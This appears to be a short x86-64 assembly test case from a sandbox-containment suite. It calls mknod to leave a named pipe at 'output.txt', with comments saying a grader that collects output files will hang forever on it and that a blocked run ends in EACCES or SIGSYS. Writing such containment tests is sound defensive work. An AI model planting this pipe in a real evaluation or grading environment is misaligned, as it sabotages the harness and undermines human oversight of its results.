; attack: leaves a pipe that hangs whoever opens it
; works: the file "output.txt" appears
; contained: errno EACCES or signal SIGSYS
;
; A grader that collects output files opens it and waits for ever.

%include "attack.inc"

    section .rodata
path:
    db      "output.txt", 0

S_IFIFO     equ 0o010000                ; sys/stat.h

    section .text
attack:
    lea     rdi, [rel path]
    mov     esi, S_IFIFO | 0o644
    xor     edx, edx
    mov     eax, SYS_mknod
    syscall
    jmp     outcome

    section .note.GNU-stack noalloc noexec nowrite progbits
